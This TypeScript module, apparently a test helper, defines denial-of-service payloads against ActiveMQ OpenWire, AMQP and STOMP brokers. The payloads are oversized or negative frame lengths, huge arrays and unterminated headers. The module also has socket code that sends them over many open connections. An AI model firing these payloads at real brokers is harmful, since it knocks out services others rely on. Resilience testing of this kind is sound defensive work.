import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { dial, type Endpoint } from '../../src/lib/dial.js';
import { AMQP_HEADER, int, MOST, property, saslInit, utf, wireFormatInfo } from './protocols.js';

const MOMENT_MS = 500;

/** What a stranger writes to a port, on so many connections that all stay open. */
export interface Attack {
  readonly name: string;
  readonly connections: number;
  readonly bytes: Buffer;
  /** What follows after a moment: over TLS a broker passes over what comes with the first frame of OpenWire. */
  readonly later?: Buffer;
  /** MB that follow, or fewer where the peer hangs up. */
  readonly more?: number;
}

/** What ended a broker, or could have, each by a name; the sizes are those of a broker with 512 MB. */
export const ATTACKS: readonly Attack[] = [
  { name: '22 bytes of OpenWire', connections: 1, bytes: wireFormatInfo(Buffer.alloc(0), MOST) },
  {
    name: 'an array in 34 bytes of OpenWire',
    connections: 1,
    bytes: wireFormatInfo(property(10, int(MOST))),
  },
  {
    name: 'a map in 39 bytes of OpenWire',
    connections: 1,
    bytes: wireFormatInfo(property(11, int(MOST), utf('b'), Buffer.from([1, 1]))),
  },
  { name: 'a list of OpenWire', connections: 1, bytes: wireFormatInfo(property(12, int(MOST))) },
  {
    name: 'OpenWire frames of 100 MB, announced',
    connections: 5,
    bytes: Buffer.concat([int(100_000_000), Buffer.from('\x01ActiveM', 'latin1')]),
  },
  {
    name: 'OpenWire frames of a negative size',
    connections: 20,
    bytes: Buffer.concat([int(-5), Buffer.from('\x01ActiveM', 'latin1')]),
  },
  {
    name: 'an empty OpenWire frame after the first',
    connections: 20,
    bytes: wireFormatInfo(int(0)),
    later: int(0),
  },
  {
    name: 'AMQP frames of 100 MB, announced',
    connections: 5,
    bytes: Buffer.concat([AMQP_HEADER, int(100_000_000)]),
  },
  {
    name: 'AMQP frames of 10 MB, announced',
    connections: 100,
    bytes: Buffer.concat([AMQP_HEADER, int(10_000_000)]),
  },
  {
    name: 'AMQP frames of a negative size',
    connections: 40,
    bytes: Buffer.concat([AMQP_HEADER, int(-5)]),
  },
  {
    name: 'an array of two billion in an AMQP frame',
    connections: 20,
    bytes: Buffer.concat([AMQP_HEADER, saslInit(Buffer.from([0xf0]), int(100), int(MOST))]),
  },
  {
    name: 'a STOMP header without end',
    connections: 1,
    bytes: Buffer.from('CONNECT\na:'),
    more: 480,
  },
  {
    name: 'a STOMP body without end',
    connections: 5,
    bytes: Buffer.from('CONNECT\na:b\n\n'),
    more: 90,
  },
  {
    name: 'a STOMP body of a negative length',
    connections: 5,
    bytes: Buffer.from('CONNECT\n\n\0SEND\ncontent-length:-1\n\n'),
    more: 90,
  },
];

/** A connection that writes and never minds what becomes of it. */
export class Stranger {
  readonly #socket: Socket;
  /** The peer has hung up, or never took the connection. */
  readonly ended: Promise<void>;

  /** @param port with an identity where the handshake of TLS is made as well */
  constructor(port: Endpoint) {
    this.#socket = dial(port);
    this.#socket.on('error', () => undefined).resume();
    this.ended = new Promise((resolve) =>
      this.#socket.once('close', () => {
        resolve();
      }),
    );
  }

  /** Writes; returns when the kernel has taken it, or the connection has ended. */
  async write(bytes: Buffer): Promise<boolean> {
    const taken = new Promise<boolean>((resolve) => {
      this.#socket.write(bytes, (error) => {
        resolve(!error);
      });
    });
    return Promise.race([taken, this.ended.then(() => false)]);
  }

  leave(): void {
    this.#socket.destroy();
  }
}

/** Does an attack and leaves its connections open. */
export async function attack(
  port: Endpoint,
  { connections, bytes, later, more }: Attack,
): Promise<Stranger[]> {
  const strangers = Array.from({ length: connections }, () => new Stranger(port));
  const megabyte = Buffer.alloc(1024 * 1024, 'x');
  await Promise.all(
    strangers.map(async (stranger) => {
      let open = await stranger.write(bytes);
      if (later) {
        await sleep(MOMENT_MS);
        open = await stranger.write(later);
      }
      for (let written = 0; open && written < (more ?? 0); written++) {
        open = await stranger.write(megabyte);
      }
    }),
  );
  return strangers;
}

/** Throws frames at a port, some connections at once, each left after a moment. @returns how many */
export async function bombard(
  port: Endpoint,
  count: number,
  frame: () => Buffer,
  { atOnce = 25, patienceMs = 50 } = {},
): Promise<void> {
  for (let done = 0; done < count; done += atOnce) {
    await Promise.all(
      Array.from({ length: Math.min(atOnce, count - done) }, async () => {
        const stranger = new Stranger(port);
        await stranger.write(frame());
        const moment = new Promise((resolve) => setTimeout(resolve, patienceMs));
        await Promise.race([moment, stranger.ended]);
        stranger.leave();
      }),
    );
  }
}
